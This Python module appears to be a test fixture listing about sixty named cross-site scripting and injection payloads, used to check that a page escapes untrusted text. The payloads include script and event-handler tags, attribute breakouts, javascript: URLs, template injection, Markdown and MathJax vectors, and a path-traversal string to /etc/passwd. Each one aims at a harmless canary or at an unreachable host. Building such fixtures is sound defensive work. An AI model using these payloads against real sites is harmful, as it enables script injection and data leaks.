"""What an attacker may write where a name, a label, a log or a unit belongs.

Each text tries to run something, which would set ``window.__ran`` in the page's top window, or to make the browser
ask a host that nobody named, ``leak.invalid``: no such host exists, but a page that asks for it is seen to.
"""

from __future__ import annotations

HOST = "leak.invalid"
URL = f"http://{HOST}/asked"
RUN = "top.__ran=1"

#: By name; all differ, so that what is found in a page can be traced.
PAYLOADS: dict[str, str] = {
    # --- elements that run
    "script": f"<script>{RUN}</script>",
    "script-src": f"<script src={URL}></script>",
    "script-module": f"<script type=module>import '{URL}';{RUN}</script>",
    "img-onerror": f"<img src=x onerror={RUN}>",
    "img-onerror-quoted": f'<IMG SRC="x" ONERROR="{RUN}">',
    "img-slashes": f"<img/src=x/onerror={RUN}//",
    "svg-onload": f"<svg onload={RUN}><circle r=9></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "svg-use": f'<svg><use href="{URL}#x"/><image href="{URL}"/></svg>',
    "math-href": f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe-data": f"<iframe src=\"data:text/html,<script>{RUN};fetch('{URL}')</script>\"></iframe>",
    "object-data": f'<object data="{URL}"></object><embed src="{URL}">',
    "details-ontoggle": f"<details open ontoggle={RUN}>x</details>",
    "input-onfocus": f"<input autofocus onfocus={RUN}>",
    "body-onload": f"<body onload={RUN}>",
    "video-onerror": f"<video poster={URL}><source onerror={RUN}></video><audio src={URL} autoplay></audio>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "template-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "dialog": "<script>alert(1);confirm(2);prompt(3)</script><img src=x onerror=alert(4)>",
    # --- elements that ask another host
    "img-remote": f'<img src="{URL}" srcset="{URL} 2x">',
    "link-stylesheet": f'<link rel=stylesheet href="{URL}"><link rel=preload as=image href="{URL}">',
    "meta-refresh": f'<meta http-equiv=refresh content="0;url={URL}">',
    "base-href": f'<base href="{URL}/">',
    "style-import": f"<style>@import url({URL});*{{background:url({URL})}}</style>",
    "style-attribute": f'<div style="background:url({URL});width:9px">x</div>',
    "css-expression": f'<b style="width:expression({RUN});-moz-binding:url({URL})">x</b>',
    "form-action": f"<form action={URL}><input name=q><button autofocus>x</button></form>"
    "<script>document.forms[0].submit()</script>",
    "window-open": f"<a href={URL} target=_blank ping={URL}>x</a><script>window.open('{URL}')</script>",
    # --- the way out of an attribute, an element, a string
    "double-quote": f'"><script>{RUN}</script>',
    "single-quote": f"'><img src=x onerror={RUN}>",
    "attribute": f'" autofocus onfocus="{RUN}" style="background:url({URL})" x="',
    "attribute-single": f"' onmouseover='{RUN}' onpointerenter='{RUN}' x='",
    "css-value": f"red;background:url({URL})",
    "css-url": f"url({URL})",
    "closing-tags": f"</textarea></title></style></pre></option></select></table><script>{RUN}</script>",
    "closing-script": f"</script><script>{RUN}</script>",
    "comment": f"--><script>{RUN}</script><!--",
    "cdata": f"]]><script>{RUN}</script>",
    "entities": f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
    "null-byte": f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00<img src=x\x00 onerror={RUN}>",
    "json-string": f'\\"}}]}};{RUN};//\\u003cscript\\u003e{RUN}\\u003c/script\\u003e',
    # --- addresses
    "javascript-url": f"javascript:{RUN}",
    "javascript-link": f'<a href="javascript:{RUN}">x</a><a href="java\tscript:{RUN}">y</a>',
    "data-url": f"data:text/html,<script>{RUN}</script>",
    "remote-url": URL,
    # --- templates, Markdown, mathematics
    "template-literal": f"${{{RUN}}}`${{fetch('{URL}')}}`",
    "template-braces": f"{{{{constructor.constructor('{RUN}')()}}}}{{% {RUN} %}}<%= {RUN} %>",
    "format-fields": "{} {0.__class__.__init__.__globals__} %s %n %(x)s {run!r}",
    "markdown-image": f"![x]({URL}) [y](javascript:{RUN}) <{URL}>\n\n[z]: {URL}\n",
    "markdown-html": f"`x`\n\n<img src=x onerror={RUN}>\n\n```\n</code></pre><script>{RUN}</script>\n```",
    "math-dollar": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\style{{background:url({URL})}}{{y}}$$",
    "math-brackets": f"\\(\\href{{javascript:{RUN}}}{{x}}\\) \\[\\style{{background:url({URL})}}{{y}}\\]",
    "math-environment": f"\\begin{{equation}}\\require{{html}}\\href{{{URL}}}{{\\class{{a}}{{z}}}}\\end{{equation}}",
    # --- signs that steer
    "ansi": f"\x1b[31m\x1b]8;;{URL}\x07x\x1b]8;;\x07\x1b[2J\x9b31m",
    "bidi": f"\u202e\u2066<img src=x onerror={RUN}>\u2069\u202c",
    "surrogate-like": f"\ufeff\u2028<script>{RUN}</script>\u2029\ud7ff",
    "long": f"<img src=x onerror={RUN}>" * 200,
    # --- paths
    "path-up": "../../../canary<img src=x onerror=top.__ran=1>",
    "path-file": "file:///canary/../etc/passwd<svg onload=top.__ran=1>",
}
